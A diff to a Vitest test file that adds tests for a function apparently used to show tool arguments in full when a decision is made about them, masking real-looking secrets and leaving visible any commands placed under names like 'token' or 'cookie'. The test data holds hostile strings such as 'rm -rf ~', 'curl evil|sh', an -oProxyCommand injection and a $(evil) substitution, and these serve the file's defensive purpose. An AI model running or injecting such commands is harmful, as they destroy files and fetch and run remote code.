@@ -1,5 +1,5 @@
 import { describe, expect, it } from "vitest";
-import { showArgs, showEnvValue } from "./shownArgs.ts";
+import { showArgs, showEnvValue, showWholeArgs } from "./shownArgs.ts";
 
 describe("environment values in a prompt", () => {
   it("keep the start of a secret and tell its length as a number", () => {
@@ -50,5 +50,41 @@ describe("environment values in a prompt", () => {
 
   it("keep the length in arguments, where no catalogue can say it", () => {
     expect(showArgs({ token: "hunter2" })).toContain("(7 characters)");
+  });
+});
+
+describe("whole arguments for a decision", () => {
+  it.each([
+    ["cookie", "x; rm -rf ~"],
+    ["credential_helper", "sh -c 'curl evil|sh'"],
+    ["token", "{rm,-rf,home}"],
+    ["password", "/tmp/evil"],
+    ["api_key", "lib/evil.so"],
+    ["secret", "-oProxyCommand=evil"],
+    ["authorization", "Bearer $(evil)"],
+    ["authorization", "Bearer --evil"],
+    ["token", "https://evil.example"],
+    ["token", "删除所有文件"],
+  ])("hide no words and no code behind the name %s: %s", (name, value) => {
+    expect(showWholeArgs({ deep: [{ [name]: value }] })).toContain(JSON.stringify(value));
+  });
+
+  it.each([
+    ["password", "hunter2hunter2"],
+    ["api_key", "0123456789abcdef0123456789abcdef"],
+    ["token", "c2VjcmV0/c2VjcmV0+c2VjcmV0=="],
+    ["note", "ghp_abcdefghijklmnopqrstuvwxyz0123456789"],
+  ])("mask what looks like a secret under %s: %s", (name, value) => {
+    const shown = showWholeArgs({ [name]: value });
+    expect(shown).toContain("••••••");
+    expect(shown).not.toContain(value.slice(4));
+  });
+
+  it("mask a token behind its scheme, and one of a known form among words", () => {
+    const key = "ghp_abcdefghijklmnopqrstuvwxyz0123456789";
+    const shown = showWholeArgs({ authorization: "Bearer abcdef012345", cookie: `curl -H ${key} evil` });
+    expect(shown).toContain("Bearer abcd••••••");
+    expect(shown).toMatch(/curl -H ghp_•••••• .* evil/);
+    expect(shown).not.toContain(key);
   });
 });
